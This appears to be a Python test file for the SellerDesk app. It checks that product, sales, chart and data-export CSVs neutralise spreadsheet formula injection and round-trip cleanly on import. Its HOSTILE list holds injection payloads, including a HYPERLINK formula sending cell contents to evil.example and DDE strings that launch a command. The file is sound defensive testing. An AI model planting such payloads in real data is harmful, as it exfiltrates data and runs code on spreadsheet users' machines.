"""Every CSV SellerDesk writes is safe to open in a spreadsheet: text that starts like a formula is written with a
leading ' (numbers stay numbers), and importing the file again gives back exactly what was typed."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

from core.analytics.csvio import export_sales_csv, import_sales_csv
from core.app import App
from core.db.models import SaleEvent
from core.products.csvio import export_products, import_products
from core.products.service import create_product, product_input
from core.spreadsheet import FORMULA_STARTS, read_cell, safe_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _assert_inert(text: str) -> None:
    for cell in _cells(text):
        assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(".", "").isdigit(), cell


def test_helper_round_trip() -> None:
    for text in [*HOSTILE, "\tindented", "\rreturn", "plain", "'quoted already", ""]:
        assert read_cell(safe_cell(text)) == text
    assert safe_cell("-120.50") == "-120.50" and safe_cell(-5) == -5  # refunds stay numbers
    assert safe_cell("=1") == "'=1" and safe_cell("\t=1") == "'\t=1"


def test_product_export_is_inert_and_imports_back_unchanged(app, tmp_path: Path) -> None:
    for n, text in enumerate(HOSTILE):
        create_product(app.db, product_input({"title": text, "price": "10", "description": HOSTILE[-1 - n],
                                              "category": "@Home", "attributes": "note=-x"}))
    out = tmp_path / "products.csv"
    assert export_products(app.db, out, store=app.image_store) == len(HOSTILE)
    text = out.read_text(encoding="utf-8-sig")
    _assert_inert(text)
    assert "'=HYPERLINK(" in text and "'@Home" in text

    other = App(tmp_path / "other")
    try:
        report = import_products(other.db, out, store=other.image_store)
        assert report.problems == []
        with other.db.engine.connect() as conn:
            rows = conn.exec_driver_sql("SELECT title, description, category FROM products ORDER BY id").all()
        assert [tuple(r) for r in rows] == [(t, HOSTILE[-1 - n], "@Home") for n, t in enumerate(HOSTILE)]
    finally:
        other.close()


def test_data_export_zip_csvs_are_inert_and_json_keeps_exact_values(cli, app, tmp_path: Path) -> None:
    create_product(app.db, product_input({"title": HOSTILE[0], "price": "10", "sku": "H-1"}))
    with app.db.session() as session:
        session.add(SaleEvent(platform="offline", external_id="r-1", amount=Decimal("-120.5"), currency="INR",
                              occurred_at=datetime(2026, 11, 1, tzinfo=UTC), buyer=HOSTILE[1], kind="refund"))
    out = tmp_path / "export.zip"
    assert cli("data", "export", str(out)).code == 0
    with zipfile.ZipFile(out) as zf:
        products, sales = zf.read("products.csv").decode("utf-8-sig"), zf.read("sale_events.csv").decode("utf-8-sig")
        exact = json.loads(zf.read("products.json"))
    _assert_inert(products)
    _assert_inert(sales)
    assert "'=HYPERLINK(" in products and "'+cmd" in sales and ",-120.5," in sales
    assert exact[0]["title"] == HOSTILE[0]


def test_sales_export_imports_back_with_the_buyer_as_typed(app, tmp_path: Path) -> None:
    create_product(app.db, product_input({"title": "Diya", "price": "10", "sku": "D-1"}))
    source = tmp_path / "in.csv"
    source.write_text("date,platform,sku,amount,buyer\n2025-11-02,offline,D-1,5,\"=HYPERLINK(1)\"\n",
                      encoding="utf-8")
    import_sales_csv(app.db, source)
    out = tmp_path / "sales.csv"
    export_sales_csv(app.db, out)
    _assert_inert(out.read_text(encoding="utf-8-sig"))
    again = import_sales_csv(app.db, out)
    assert (again.added, again.updated, again.problems) == (0, 0, [])
    with app.db.session() as session:
        assert [s.buyer for s in session.query(SaleEvent)] == ["=HYPERLINK(1)"]


def test_chart_csv_labels_are_inert(tmp_path: Path) -> None:
    from core.analytics.chart_data import ChartTable, write_csv

    table = ChartTable(title="Top products", key="product", labels=[HOSTILE[0], "Diya"],
                       series={"revenue": [Decimal("-12.5"), Decimal("300")]}, currency="INR")
    path = tmp_path / "top.csv"
    write_csv(table, path)
    text = path.read_text(encoding="utf-8-sig")
    _assert_inert(text)
    assert "'=HYPERLINK(" in text and ",-12.5" in text
